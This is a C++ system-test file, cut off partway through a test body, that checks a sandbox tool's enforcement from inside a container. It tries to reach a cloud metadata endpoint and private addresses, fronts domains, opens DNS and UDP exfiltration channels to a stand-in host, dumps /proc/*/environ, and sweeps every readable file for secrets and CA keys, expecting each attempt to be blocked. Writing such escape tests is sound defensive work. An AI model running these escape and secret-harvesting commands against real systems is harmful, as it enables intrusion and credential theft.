// The sandbox-escape suite (issue #8 item 1). The real `ironward run` daemon confines one sandbox
// with enforcement.mode: enforce and enforcement.network: internal, against the private dockerd of
// the `docker_engine` fixture, real nftables and the iron-proxy double installed from a file://
// release. Then, from inside the sandbox (docker exec), every escape attempt is one named case that
// must be blocked; a few controls prove the cases are not vacuous (the same targets ARE reachable
// from an unconfined container on the default bridge, the proxy works for the allowlisted host and
// swaps in the real key, the ports the sandbox must not reach are live on the host).
//
// The local "internet": 198.51.100.77/32 (TEST-NET-2, outside the proxy's default deny list) is
// added to lo; a TLS upstream, a UDP sink and a DNS sink (UDP/53) listen on 0.0.0.0, so they answer
// on that address, on docker0 and on the sandbox network's gateway. /etc/hosts maps the allowlisted
// provider host api.escape-upstream.test to it, and a few allowlisted "rebind" names to loopback,
// IMDS and RFC1918 addresses (where the proxy's default upstreamDenyCidrs must stop it).
//
// The provider's real secret is a random marker the test knows; it is never printed (Redact()),
// only searched for in what the sandbox can see and in every output, log and status file.
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cctype>
#include <atomic>
#include <filesystem>
#include <iomanip>
#include <iostream>
#include <memory>
#include <mutex>
#include <sstream>
#include <thread>
#include <vector>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "double_harness.h"
#include "tests/support/udp_server.h"
#include "tests/support/gateway_yaml.h"
#include "tests/support/packaged_release.h"
#include "tests/support/process.h"
#include "tests/support/temp_dir.h"
#include "tests/system/system_support.h"

namespace ironward::escape_test {
namespace {

using namespace ironward::system_test;  // Sh, Quote, Trim, Eventually, Env, EngineApi, FreePortBase, ...
using testing::ReadFile;
using std::chrono::milliseconds;
using std::chrono::seconds;

constexpr const char* kUpstreamIp = "198.51.100.77";
constexpr const char* kProviderHost = "api.escape-upstream.test";
constexpr const char* kNotAllowlisted = "not-allowlisted.escape-upstream.test";
constexpr const char* kTokenVar = "IRONWARD_PROXY_TOKEN_ESCAPE_API_KEY";
constexpr const char* kSecretName = "ESCAPE_API_KEY";
constexpr const char* kHostsBegin = "# ironward-escape-test begin";
constexpr const char* kHostsEnd = "# ironward-escape-test end";

std::string RandomHex(int bytes) {
  std::ifstream in("/dev/urandom", std::ios::binary);
  std::string out;
  static const char* hex = "0123456789abcdef";
  for (int i = 0; i < bytes; ++i) {
    const int c = in.get();
    out += hex[(c >> 4) & 0xf];
    out += hex[c & 0xf];
  }
  return out;
}

/// A UDP listener on 0.0.0.0:port that records every datagram and echoes it back.
class UdpSink {
 public:
  explicit UdpSink(int port)
      : server_("0.0.0.0", port, [this](const std::string& d) -> std::optional<std::string> {
          {
            std::lock_guard<std::mutex> lock(mu_);
            datagrams_.push_back(d);
          }
          std::string reply = d;
          if (reply.size() > 2) reply[2] = static_cast<char>(reply[2] | 0x80);  // DNS: mark it a response
          return reply;
        }) {}
  bool ok() const { return server_.ok(); }
  int port() const { return server_.port(); }
  /// Whether any datagram so far contained `needle`.
  bool Saw(const std::string& needle) {
    std::lock_guard<std::mutex> lock(mu_);
    for (const auto& d : datagrams_) {
      if (d.find(needle) != std::string::npos) return true;
    }
    return false;
  }

 private:
  std::mutex mu_;
  std::vector<std::string> datagrams_;
  testing::UdpServer server_;  // last: stopped first, before what its handler uses
};

struct Row {
  std::string name, expected, got;
  bool ok = false;       // blocked (escape case) or reached (control)
  bool control = false;  // a control: must be reached, else the suite proves nothing
};

class EscapeTest : public ::testing::Test {
 protected:
  void SetUp() override {
    docker_host_ = DockerHostLine(Env("IRONWARD_DOCKER_HOST_FILE", IRONWARD_DOCKER_HOST_FILE));
    ASSERT_FALSE(docker_host_.empty())
        << "no test engine: run through ctest (the docker_engine fixture) or set IRONWARD_DOCKER_HOST_FILE";
    engine_ = std::make_unique<EngineApi>(docker_host_.substr(std::string("DOCKER_HOST=unix://").size()));
    ASSERT_EQ(engine_->Call("GET", "/_ping").first, 200) << "the test engine does not answer";
    if (Sh("nft list table inet ironward").code == 0) {
      GTEST_SKIP() << "table inet ironward already exists on this host; not touching it";
    }
    owns_table_ = true;
    secret_ = "sk-escape-" + RandomHex(16);

    name_ = "iwesc-" + std::to_string(::getpid());
    network_ = name_ + "-net";
    sandbox_ = name_ + "-agent";
    const int n = static_cast<int>(::getpid() % 40);
    // Its own region of 172.30.x (system tests 100+, network 150+, verify 200+): it runs alongside
    // the network tests, and two engines' networks on one subnet make the second create fail.
    gateway_ = "172.30." + std::to_string(50 + n) + ".1";
    subnet_ = "172.30." + std::to_string(50 + n) + ".0/24";
    docker0_ = Docker0Address();
    const int base = FreePortBase(6, 24000);
    ASSERT_GT(base, 0);
    tunnel_port_ = base;
    http_port_ = base + 1;
    proxy_metrics_port_ = base + 2;
    mgmt_port_ = base + 3;
    metrics_port_ = FreePortBase(1, 24000);
    ASSERT_GT(metrics_port_, 0);

    // The local "internet".
    if (Sh("ip -4 addr show dev lo | grep -q ' " + std::string(kUpstreamIp) + "/32'").code != 0) {
      const CmdResult added = Sh("ip addr add " + std::string(kUpstreamIp) + "/32 dev lo");
      ASSERT_EQ(added.code, 0) << added.out;
      added_addr_ = true;
    }
    rebind_ = {{"rebind-loopback", "127.0.0.1"},  {"rebind-imds", "169.254.169.254"},
               {"rebind-docker0", docker0_},      {"rebind-gateway", gateway_},
               {"rebind-rfc1918-10", "10.0.0.1"}, {"rebind-rfc1918-192", "192.168.0.1"}};
    std::string block = std::string(kHostsBegin) + "\n" + kUpstreamIp + " " + kProviderHost + "\n";
    for (const auto& [prefix, ip] : rebind_) block += ip + " " + prefix + ".escape-upstream.test\n";
    block += std::string(kHostsEnd) + "\n";
    RemoveHostsBlock();
    {
      std::ofstream hosts("/etc/hosts", std::ios::app);
      hosts << block;
      ASSERT_TRUE(hosts.good()) << "cannot append to /etc/hosts";
    }
    hosts_edited_ = true;
    ASSERT_EQ(Trim(Sh("getent hosts " + std::string(kProviderHost) + " | cut -d' ' -f1").out), kUpstreamIp);

    // Upstream PKI: every allowlisted name is in the leaf, so only the deny list can stop a rebind.
    const std::string d = pki_.path();
    std::string san = "DNS:" + std::string(kProviderHost) + ",DNS:" + kNotAllowlisted;
    for (const auto& [prefix, ip] : rebind_) san += ",DNS:" + prefix + ".escape-upstream.test";
    const CmdResult pki = Sh(
        "(cd " + Quote(d) +
        " && openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj /CN=escape-up-ca "
        "-keyout upca.key -out upca.crt && openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes "
        "-subj /CN=" + std::string(kProviderHost) + " -keyout up.key -out up.csr && printf 'subjectAltName=" + san +
        "\\nextendedKeyUsage=serverAuth\\n' > up.ext && openssl x509 -req -in up.csr -CA upca.crt -CAkey upca.key "
        "-CAcreateserial -days 2 -extfile up.ext -out up.crt)");
    ASSERT_EQ(pki.code, 0) << pki.out;
    upstream_ = std::make_unique<doubletest::Upstream>(d + "/up.crt", d + "/up.key", "0.0.0.0");
    udp_ = std::make_unique<UdpSink>(0);
    dns_ = std::make_unique<UdpSink>(53);
    ASSERT_TRUE(udp_->ok());
    ASSERT_TRUE(dns_->ok()) << "UDP port 53 is taken on this host";

    // The proxy release, the probe helper (mounted read-only), the desired state.
    sha_ = testing::PackageRelease039(PACKAGE_SCRIPT, Env("IRON_PROXY_DOUBLE", IRON_PROXY_DOUBLE), releases_.path());
    ASSERT_EQ(sha_.size(), 64U) << "packaging the proxy double failed";
    probe_dir_ = tmp_.str() + "/probe";
    std::filesystem::create_directories(probe_dir_);
    std::filesystem::copy_file(Env("ESCAPE_PROBE", ESCAPE_PROBE), probe_dir_ + "/escape_probe");
    std::filesystem::create_directories(tmp_.str() + "/desired");
    state_ = tmp_.str() + "/state";
    spec_ = tmp_.str() + "/desired/gateway.yaml";
    std::ofstream(spec_) << Spec();

    StartDaemon();
    ASSERT_TRUE(Eventually([&] { return Readyz() == 200 && !SandboxId().empty(); }, seconds(90)))
        << "the daemon did not converge\n"
        << Redact(Tail(DaemonLog(), 4000));
    token_ = Token();
    ASSERT_FALSE(token_.empty());
  }

  void TearDown() override {
    daemon_.Kill();
    StopProxyOf(state_);
    if (engine_ && !name_.empty()) {
      for (const std::string& label : {"ironward.dev/owner=" + name_, "ironward.test.run=" + name_}) {
        for (const auto& id : engine_->ContainersWithLabel(label)) (void)engine_->RemoveContainer(id);
      }
      (void)engine_->RemoveNetwork(network_);
    }
    if (owns_table_) (void)Sh("nft delete table inet ironward 2>/dev/null");
    if (added_addr_) (void)Sh("ip addr del " + std::string(kUpstreamIp) + "/32 dev lo");
    if (hosts_edited_) RemoveHostsBlock();
    if (!secret_.empty()) {
      const std::string seen = transcript_ + DaemonLog() + ReadFile(state_ + "/status.json") + ProxyLog();
      EXPECT_EQ(seen.find(secret_), std::string::npos) << "the secret leaked into an output, log or status.json";
      // (The transcript holds the sandbox's own env, which carries its token by design.)
      if (!token_.empty()) {
        EXPECT_EQ(DaemonLog().find(token_), std::string::npos) << "a token leaked into the daemon log";
      }
    }
  }

  static void RemoveHostsBlock() {
    const std::string text = ReadFile("/etc/hosts");
    const auto b = text.find(kHostsBegin);
    if (b == std::string::npos) return;
    const auto e = text.find(kHostsEnd, b);
    const std::string kept =
        text.substr(0, b) + (e == std::string::npos ? "" : text.substr(e + std::string(kHostsEnd).size() + 1));
    std::ofstream("/etc/hosts", std::ios::trunc) << kept;  // in place: /etc/hosts may be a bind mount
  }

  std::string Spec() const {
    testing::GatewayYaml g;
    g.name = name_;
    g.Release(releases_.path(), sha_);
    g.bind = "sandbox-network";
    g.tunnel_port = tunnel_port_;
    g.proxy_extra = "    upstreamDenyCidrs: default\n    upstreamCaFile: " + pki_.str() + "/upca.crt\n";
    g.providers = {{"escape", kSecretName, "[\"" + std::string(kProviderHost) + "\"]"}};
    std::string allow;  // the rebind names: only the proxy's deny list may stop them
    for (const auto& [prefix, ip] : rebind_) allow += (allow.empty() ? "" : ", ") + prefix + ".escape-upstream.test";
    g.allowlist = "[" + allow + "]";
    g.extra = "  enforcement:\n    mode: enforce\n    network: internal\n    networkName: " + network_ +
              "\n    networkSubnet: \"" + subnet_ + "\"\n" + (routing_.empty() ? "" : "    routing: " + routing_ + "\n") +
              "  sandboxes:\n    - name: " + sandbox_ + "\n      image: \"" +
              Env("IRONWARD_TEST_IMAGE", IRONWARD_TEST_IMAGE) +
              "\"\n      command: [\"sleep\", \"infinity\"]\n      mounts: [\"" + probe_dir_ +
              ":/opt/escape:ro\"]\n      resources: {memory: 64m, cpus: 0.5, pids: 64}\n";
    return g.Render();
  }

  // --- the daemon and its proxy -------------------------------------------------------------
  void StartDaemon() {
    testing::SpawnOptions options;
    options.log = tmp_.str() + "/daemon.log";
    options.env = {{kSecretName, secret_}, {"DOCKER_HOST", docker_host_.substr(std::string("DOCKER_HOST=").size())}};
    ASSERT_TRUE(daemon_.Start({Env("IRONWARD_BIN", IRONWARD_BIN), "--state-dir", state_, "--log-level", "info", "run",
                               "-f", spec_, "--metrics-addr", "127.0.0.1:" + std::to_string(metrics_port_),
                               "--harden-interval", "0"},
                              options));
  }
  int Readyz() const {
    return static_cast<int>(doubletest::Http("http://127.0.0.1:" + std::to_string(metrics_port_) + "/readyz").status);
  }
  std::string DaemonLog() const { return ReadFile(tmp_.str() + "/daemon.log"); }
  std::string ProxyLog() const { return ReadFile(state_ + "/iron-proxy.log"); }
  std::string Token() const {
    const auto j = nlohmann::json::parse(ReadFile(state_ + "/mappings.json"), nullptr, false);
    if (!j.is_object() || !j.contains("providers") || !j["providers"].contains("escape")) return "";
    return j["providers"]["escape"].value("token", "");
  }
  std::string SandboxId() const {
    const auto j = engine_->Inspect(sandbox_);
    if (!j.is_object() || !j["State"].value("Running", false)) return "";
    return j.value("Id", "");
  }

  // --- running things -----------------------------------------------------------------------
  std::string Redact(std::string s) const {
    for (const std::string& v : {secret_, token_}) {
      if (v.empty()) continue;
      for (auto at = s.find(v); at != std::string::npos; at = s.find(v, at)) s.replace(at, v.size(), "<redacted>");
    }
    return s;
  }
  static std::string Tail(const std::string& s, std::size_t n = 1500) {
    return s.size() <= n ? s : s.substr(s.size() - n);
  }
  /// `sh -c script` inside the container under test (subject_), stdout + stderr (recorded in the transcript).
  std::string Exec(const std::string& script) {
    const CmdResult r = Sh("env " + docker_host_ + " docker exec " + subject_ + " sh -c " + Quote(script));
    transcript_ += r.out;
    return r.out;
  }
  /// `sh -c script` in a throwaway container on the default bridge (not confined by ironward), with
  /// the probe mounted and `extra` docker-run flags.
  std::string Bridge(const std::string& script, const std::string& extra = "") {
    const CmdResult r = Sh("env " + docker_host_ + " docker run --rm --network bridge --label ironward.test.run=" +
                           name_ + " -v " + Quote(probe_dir_) + ":/opt/escape:ro " + extra + " " +
                           Env("IRONWARD_TEST_IMAGE", IRONWARD_TEST_IMAGE) + " sh -c " + Quote(script));
    transcript_ += r.out;
    return r.out;
  }
  /// A PEM private key block ("-----BEGIN [EC |RSA ]PRIVATE KEY-----" and a base64 line), not
  /// merely the armour strings libcrypto carries.
  static bool HasPemPrivateKey(const std::string& s) {
    const std::string armour = "PRIVATE KEY-----";
    for (auto at = s.find(armour); at != std::string::npos; at = s.find(armour, at + 1)) {
      const auto begin = s.rfind("-----BEGIN ", at);
      if (begin == std::string::npos || at - begin > 24) continue;
      std::size_t i = at + armour.size();
      if (i < s.size() && s[i] == '\r') ++i;
      if (i >= s.size() || s[i] != '\n') continue;
      std::size_t b64 = 0;
      for (++i; i < s.size() && (std::isalnum(static_cast<unsigned char>(s[i])) || s[i] == '+' || s[i] == '/'); ++i) {
        ++b64;
      }
      if (b64 >= 40) return true;
    }
    return false;
  }
  static std::string Probe(const std::string& args) { return "/opt/escape/escape_probe " + args; }

  /// A request from the sandbox through its proxy variables (`--noproxy ''` lifts its NO_PROXY
  /// exemption for loopback), optionally carrying its proxy token. "connect=<CONNECT status>
  /// code=<final status> exit=<curl exit>".
  std::string ViaProxy(const std::string& url, bool with_token, const std::string& extra = "") {
    const std::string header = with_token ? " -H \"Authorization: Bearer $" + std::string(kTokenVar) + "\"" : "";
    return Trim(Exec("curl -sS -o /dev/null --noproxy '' --max-time 8 -w 'connect=%{http_connect} code=%{http_code}'" +
                     header + " " + extra + " " + Quote(url) + " 2>/dev/null; echo \" exit=$?\""));
  }
  static std::string Field(const std::string& out, const std::string& key) {
    const auto at = out.find(key + "=");
    if (at == std::string::npos) return "";
    const auto start = at + key.size() + 1;
    return out.substr(start, out.find_first_of(" \n", start) - start);
  }

  void Add(const std::string& name, const std::string& expected, const std::string& got, bool ok, bool control) {
    rows_.push_back(Row{label_.empty() ? name : "[" + label_ + "] " + name, expected, got, ok, control});
  }
  void Blocked(const std::string& name, const std::string& got, bool blocked) {
    Add(name, "blocked", got, blocked, false);
  }
  void Control(const std::string& name, const std::string& expected, const std::string& got, bool reached) {
    Add(name, expected, got, reached, true);
  }

  /// A via-proxy attempt: blocked when the proxy answered no 2xx and the upstream saw no request.
  void ProxyCase(const std::string& name, const std::string& url, bool with_token, const std::string& extra = "") {
    const std::size_t before = upstream_->Requests().size();
    const std::string out = ViaProxy(url, with_token, extra);
    const std::size_t after = upstream_->Requests().size();
    const std::string connect = Field(out, "connect"), code = Field(out, "code");
    const bool ok2xx = !code.empty() && code[0] == '2';
    std::string got = (connect != "000" && !connect.empty() ? "CONNECT " + connect + ", " : std::string()) + "HTTP " +
                      code + ", curl exit " + Field(out, "exit");
    if (after != before) got += ", upstream saw " + std::to_string(after - before) + " request(s)";
    Blocked(name, got, !ok2xx && after == before);
  }

  /// A direct TCP connect from the sandbox with the probe.
  void TcpCase(const std::string& name, const std::string& ip, int port) {
    const std::string out = Trim(Exec(Probe("tcp " + ip + " " + std::to_string(port))));
    Blocked(name, out, out.rfind("CLOSED", 0) == 0);
  }

  /// Every escape case run from inside `container` (docker exec), rows prefixed with `row_label`: the
  /// owned sandbox, a compose service and a `docker run` container wired by `ironward wiring`.
  void FromContainer(const std::string& container, const std::string& row_label) {
    subject_ = container;
    label_ = row_label;
    const int up = upstream_->port();
    const std::string ups = std::to_string(up);
    const std::string up_url = "https://" + std::string(kProviderHost) + ":" + ups + "/v1/chat";
    {  // The positive control: the allowlisted host via the proxy with the token; the upstream sees the key.
      const std::size_t before = upstream_->Requests().size();
      const std::string out = Trim(Exec("curl -sS --max-time 10 -H \"Authorization: Bearer $" + std::string(kTokenVar) +
                                        "\" " + Quote(up_url) + "; echo \" exit=$?\""));
      const auto reqs = upstream_->Requests();
      const bool got_key = reqs.size() == before + 1 &&
                           reqs.back().find("Authorization: Bearer " + secret_) != std::string::npos &&
                           reqs.back().find(token_) == std::string::npos;
      const bool ok = out.find("upstream-ok exit=0") != std::string::npos && got_key &&
                      out.find(secret_) == std::string::npos;
      Control("control: sandbox -> proxy -> allowlisted host with token", "200, real key at upstream",
              (out.find("upstream-ok") != std::string::npos ? std::string("200") : Redact(out)) +
                  (got_key ? ", real key at upstream" : ", upstream did NOT get the real key"),
              ok);
    }

    // ===== direct egress from the sandbox ====================================================
    TcpCase("direct tcp to upstream " + std::string(kUpstreamIp) + ":" + ups, kUpstreamIp, up);
    TcpCase("direct tcp to docker0 " + docker0_ + ":" + ups, docker0_, up);
    TcpCase("direct tcp to sandbox gateway " + gateway_ + ":" + ups, gateway_, up);
    {
      const std::string out = Trim(Exec("curl -sS -o /dev/null --noproxy '*' --max-time 4 -k -w '%{http_code}' https://" +
                                        std::string(kUpstreamIp) + ":" + ups + "/ 2>/dev/null; echo \" exit=$?\""));
      Blocked("direct https (curl --noproxy '*') to upstream", out, out.rfind("000", 0) == 0);
    }
    for (const auto& [label, ip] : std::vector<std::pair<std::string, std::string>>{
             {"upstream " + std::string(kUpstreamIp), kUpstreamIp}, {"sandbox gateway " + gateway_, gateway_}}) {
      const std::string nonce = "udp-" + RandomHex(6);
      const std::string out = Trim(Exec(Probe("udp " + ip + " " + std::to_string(udp_->port()) + " " + nonce)));
      const bool saw = udp_->Saw(nonce);
      Blocked("direct udp to " + label, out + (saw ? ", sink GOT it" : ", sink saw nothing"),
              !saw && out.find("REPLY") != 0);
    }
    {
      const std::string out = Trim(Exec(Probe("raw")));
      Blocked("raw socket (AF_INET SOCK_RAW, AF_PACKET)", out, out.rfind("DENIED", 0) == 0);
    }
    for (const std::string& ip : {std::string(kUpstreamIp), gateway_}) {
      const std::string out = Trim(Exec(Probe("ping " + ip)));
      Blocked("icmp echo (ping socket) to " + ip, out, out != "REPLY");
    }
    for (const auto& [label, ip] : std::vector<std::pair<std::string, std::string>>{
             {"upstream resolver " + std::string(kUpstreamIp), kUpstreamIp},
             {"sandbox gateway " + gateway_, gateway_},
             {"docker0 " + docker0_, docker0_}}) {
      const std::string nonce = "dns" + RandomHex(6);
      const std::string out = Trim(Exec(Probe("dns " + ip + " " + nonce)));
      const bool saw = dns_->Saw(nonce);
      // With DNS routing (the default here: both) the query is DNATed to the proxy's DNS, which
      // answers it itself: a REPLY then comes from the proxy, and only the sink tells a leak.
      Blocked("dns udp/53 channel to " + label, out + (saw ? ", resolver GOT the name" : ", resolver saw nothing"),
              !saw && (RoutesDns() || out != "REPLY"));
    }
    {  // DNS over TCP/53 and other TCP ports on the resolver address: nothing listens on tcp/53, so a
       // connect attempt that is not dropped would answer ECONNREFUSED (reached) instead of a timeout.
      const std::string out = Trim(Exec(Probe("tcp " + std::string(kUpstreamIp) + " 53")));
      Blocked("dns tcp/53 to upstream resolver (refused = reached)", out, out == "CLOSED:ETIMEDOUT" || out == "CLOSED:EHOSTUNREACH");
    }

    // ===== through the proxy =================================================================
    ProxyCase("proxy CONNECT loopback 127.0.0.1:" + ups, "https://127.0.0.1:" + ups + "/", true);
    ProxyCase("proxy http loopback http://127.0.0.1:" + ups, "http://127.0.0.1:" + ups + "/", true);
    ProxyCase("proxy CONNECT imds 169.254.169.254:443", "https://169.254.169.254/latest/meta-data/", true);
    ProxyCase("proxy http imds 169.254.169.254:80", "http://169.254.169.254/latest/meta-data/", true);
    ProxyCase("proxy CONNECT rfc1918 docker0 " + docker0_ + ":" + ups, "https://" + docker0_ + ":" + ups + "/", true);
    ProxyCase("proxy CONNECT rfc1918 sandbox gateway " + gateway_ + ":" + std::to_string(http_port_),
              "https://" + gateway_ + ":" + std::to_string(http_port_) + "/", true);
    ProxyCase("proxy CONNECT rfc1918 10.0.0.1:443", "https://10.0.0.1/", true);
    ProxyCase("proxy http rfc1918 192.168.0.1:80", "http://192.168.0.1/", true);
    ProxyCase("proxy CONNECT upstream by IP (not allowlisted) with token", "https://" + std::string(kUpstreamIp) + ":" +
                                                                              ups + "/v1/chat", true);
    ProxyCase("proxy CONNECT non-allowlisted host with token", "https://" + std::string(kNotAllowlisted) + ":" + ups + "/",
              true);
    ProxyCase("proxy http non-allowlisted host with token", "http://" + std::string(kNotAllowlisted) + ":" + ups + "/",
              true);
    ProxyCase("proxy domain fronting: CONNECT allowlisted, SNI/Host not",
              "https://" + std::string(kNotAllowlisted) + ":" + ups + "/", true,
              "--connect-to " + std::string(kNotAllowlisted) + ":" + ups + ":" + kProviderHost + ":" + ups);
    for (const auto& [prefix, ip] : rebind_) {
      const std::string host = prefix + ".escape-upstream.test";
      const int port = prefix == "rebind-gateway" ? http_port_ : up;
      ProxyCase("proxy allowlisted name -> " + ip + " (deny list)", "https://" + host + ":" + std::to_string(port) + "/",
                true);
    }

    // ===== reading real secrets ==============================================================
    {
      const std::string env_out = Exec("env");
      const auto inspect = engine_->Inspect(subject_);
      const std::string cfg_env = inspect.is_object() ? inspect["Config"]["Env"].dump() : "";
      const bool has_secret = (env_out + cfg_env).find(secret_) != std::string::npos;
      // The secret's own variable name (not the IRONWARD_PROXY_TOKEN_<name> that ends with it).
      const bool has_name = ("\n" + env_out).find("\n" + std::string(kSecretName) + "=") != std::string::npos ||
                            cfg_env.find("\"" + std::string(kSecretName) + "=") != std::string::npos;
      const bool has_token = env_out.find(token_) != std::string::npos;
      Blocked("secret in sandbox env (exec env + Config.Env)",
              std::string(has_secret ? "SECRET FOUND" : "not found") + (has_name ? ", secret variable set" : "") +
                  (has_token ? " (token present, as designed)" : " (token ABSENT?)"),
              !has_secret && !has_name && has_token);
    }
    {
      const std::string out = Exec("n=0; for f in /proc/[0-9]*/environ; do cat \"$f\" 2>/dev/null && n=$((n+1)); "
                                   "printf '\\n'; done; echo \"environ-read=$n\"");
      const bool found = out.find(secret_) != std::string::npos;
      Blocked("secret in /proc/*/environ visible in the sandbox",
              std::string(found ? "SECRET FOUND" : "not found") + " (" + Field(out, "environ-read") + " processes read)",
              !found && !Field(out, "environ-read").empty());
    }
    {
      // Every regular file the sandbox can read (root fs and all mounts), except /proc, /sys, /dev.
      const std::string out = Exec(
          "exec bash -c 'shopt -s globstar dotglob nullglob; n=0; for d in /*; do case \"$d\" in /proc|/sys|/dev) "
          "continue;; esac; for f in \"$d\" \"$d\"/**; do [ -f \"$f\" ] && [ -r \"$f\" ] && cat \"$f\" && n=$((n+1)); "
          "done; done; echo; echo files-read=$n; cat /proc/self/mountinfo'");
      const std::string ca_key = ReadFile(state_ + "/ca.key");
      std::string key_body;  // the base64 of the key, without the PEM armour
      {
        std::istringstream in(ca_key);
        for (std::string line; std::getline(in, line);) {
          if (line.rfind("-----", 0) != 0) key_body += line;
        }
      }
      std::string out_flat;
      for (char c : out) {
        if (c != '\n' && c != '\r') out_flat += c;
      }
      const bool secret_found = out.find(secret_) != std::string::npos;
      const bool bundle_seen = out.find(ReadFile(state_ + "/ca.crt").substr(0, 200)) != std::string::npos;
      Blocked("secret in any readable file (rootfs + mounts)",
              std::string(secret_found ? "SECRET FOUND" : "not found") + " in " + Field(out, "files-read") +
                  " files" + (bundle_seen ? " (CA bundle among them)" : " (CA bundle NOT read?)"),
              !secret_found && bundle_seen);
      const bool key_found = !key_body.empty() && out_flat.find(key_body) != std::string::npos;
      // Any PEM private key in what is mounted into the sandbox (the image's own libgnutls carries
      // public self-test keys, so the whole root fs is only searched for the CA key itself).
      const std::string mounted = Exec(
          "exec bash -c 'shopt -s globstar dotglob nullglob; while read -r _ _ _ _ mp _; do case \"$mp\" in "
          "/|/proc*|/sys*|/dev*) continue;; esac; echo \"mount=$mp\"; for f in \"$mp\" \"$mp\"/**; do "
          "[ -f \"$f\" ] && [ -r \"$f\" ] && cat \"$f\"; done; done < /proc/self/mountinfo'");
      std::size_t mounts = 0;
      for (auto at = mounted.find("mount=/"); at != std::string::npos; at = mounted.find("mount=/", at + 1)) ++mounts;
      const bool pem_key = HasPemPrivateKey(mounted);
      const bool key_mount = out.find("ca.key") != std::string::npos;
      Blocked("CA private key readable in the sandbox",
              std::string(key_found ? "CA KEY FOUND" : "ca.key content not found") +
                  (pem_key ? ", a PEM private key is mounted" : ", no PEM private key in " + std::to_string(mounts) + " mounts") +
                  (key_mount ? ", ca.key mounted" : ", ca.key not mounted"),
              !key_body.empty() && !key_found && !pem_key && !key_mount && mounts > 0);
      const bool sock = out.find("docker.sock") != std::string::npos;
      const std::string sock_test = Trim(Exec("for s in /var/run/docker.sock /run/docker.sock; do [ -e $s ] && echo $s; "
                                              "done; echo end"));
      Blocked("docker engine socket in the sandbox", sock || sock_test != "end" ? "socket present" : "absent",
              !sock && sock_test == "end");
    }

    // ===== the host's control ports ==========================================================
    TcpCase("ironward metrics/health port via gateway " + gateway_ + ":" + std::to_string(metrics_port_), gateway_,
            metrics_port_);
    TcpCase("ironward metrics/health port via docker0 " + docker0_ + ":" + std::to_string(metrics_port_), docker0_,
            metrics_port_);
    ProxyCase("proxy CONNECT to ironward /readyz 127.0.0.1:" + std::to_string(metrics_port_),
              "https://127.0.0.1:" + std::to_string(metrics_port_) + "/readyz", false);
    ProxyCase("proxy http to ironward /metrics 127.0.0.1:" + std::to_string(metrics_port_),
              "http://127.0.0.1:" + std::to_string(metrics_port_) + "/metrics", false);
    TcpCase("proxy management port via gateway " + gateway_ + ":" + std::to_string(mgmt_port_), gateway_, mgmt_port_);
    ProxyCase("proxy http to its management 127.0.0.1:" + std::to_string(mgmt_port_) + "/v1/reload",
              "http://127.0.0.1:" + std::to_string(mgmt_port_) + "/v1/reload", false, "-X POST");
    TcpCase("proxy metrics port via gateway " + gateway_ + ":" + std::to_string(proxy_metrics_port_), gateway_,
            proxy_metrics_port_);
    ProxyCase("proxy http to its metrics 127.0.0.1:" + std::to_string(proxy_metrics_port_) + "/healthz",
              "http://127.0.0.1:" + std::to_string(proxy_metrics_port_) + "/healthz", false);
    label_.clear();
  }

  /// The same cases from containers ironward did not create: a compose service started with the
  /// override of `ironward wiring --format compose` (Debian's docker-compose 1.29), and a `docker run`
  /// container started with `--format docker-args`. Each must also survive the enforcing daemon.
  void FromWiredContainers() {
    const std::string iw = "env " + docker_host_ + " " + Quote(Env("IRONWARD_BIN", IRONWARD_BIN)) + " --state-dir " +
                           Quote(state_) + " wiring -f " + Quote(spec_);
    const std::string image = Env("IRONWARD_TEST_IMAGE", IRONWARD_TEST_IMAGE);
    const std::string dir = tmp_.str() + "/stack";
    std::filesystem::create_directories(dir);
    std::ofstream(dir + "/compose.yaml") << "version: \"3.8\"\nservices:\n  agent:\n    image: " << image
                                         << "\n    command: [\"sleep\", \"infinity\"]\n    volumes: [\"" << probe_dir_
                                         << ":/opt/escape:ro\"]\n    labels: {ironward.test.run: \"" << name_ << "\"}\n";
    const CmdResult wired = Sh(iw + " --format compose --service agent --out " + Quote(dir + "/wired.yaml"));
    ASSERT_EQ(wired.code, 0) << Redact(wired.out);
    const CmdResult up = Sh("cd " + Quote(dir) + " && env " + docker_host_ + " docker-compose -p " + name_ +
                            " -f compose.yaml -f wired.yaml up -d");
    ASSERT_EQ(up.code, 0) << Redact(up.out);
    const CmdResult args = Sh(iw + " --format docker-args --out " + Quote(tmp_.str() + "/agent.args"));
    ASSERT_EQ(args.code, 0) << Redact(args.out);
    const std::string run_name = name_ + "-run";
    const CmdResult run = Sh("env " + docker_host_ + " sh -c " +
                             Quote("eval \"docker run -d --name " + run_name + " --label ironward.test.run=" + name_ +
                                   " -v " + probe_dir_ + ":/opt/escape:ro $(tr '\\n' ' ' < " + tmp_.str() +
                                   "/agent.args) " + image + " sleep infinity\""));
    ASSERT_EQ(run.code, 0) << Redact(run.out);
    for (const auto& [container, row_label] : {std::pair{name_ + "_agent_1", std::string("compose")},
                                               std::pair{run_name, std::string("docker run")}}) {
      FromContainer(container, row_label);
      label_ = row_label;
      const auto j = engine_->Inspect(container);
      const bool running = j.is_object() && j["State"].value("Running", false);
      Control("control: wired container still runs under enforce (compliant)", "running",
              running ? "running" : "stopped", running);
      label_.clear();
    }
  }

  bool RoutesDns() const { return routing_ != "proxy-variables"; }

  /// enforcement.routing written into the desired state ("" = the default: both, as bind is
  /// sandbox-network); set by a derived fixture's constructor.
  std::string routing_;
  std::string docker_host_;
  std::unique_ptr<EngineApi> engine_;
  bool owns_table_ = false, added_addr_ = false, hosts_edited_ = false;
  std::string secret_, token_, name_, network_, sandbox_, gateway_, subnet_, docker0_;
  std::string subject_, label_;  ///< the container the cases run in, and its row prefix
  int tunnel_port_ = 0, http_port_ = 0, proxy_metrics_port_ = 0, mgmt_port_ = 0, metrics_port_ = 0;
  std::vector<std::pair<std::string, std::string>> rebind_;
  doubletest::TempDir tmp_, pki_, releases_;
  std::string sha_, probe_dir_, state_, spec_;
  std::unique_ptr<doubletest::Upstream> upstream_;
  std::unique_ptr<UdpSink> udp_, dns_;
  testing::ChildProcess daemon_;  ///< `ironward run`
  std::string transcript_;
  std::vector<Row> rows_;
};

TEST_F(EscapeTest, NoEscapeFromAnEnforcedInternalSandbox) {
  const int up = upstream_->port();
  const std::string ups = std::to_string(up);
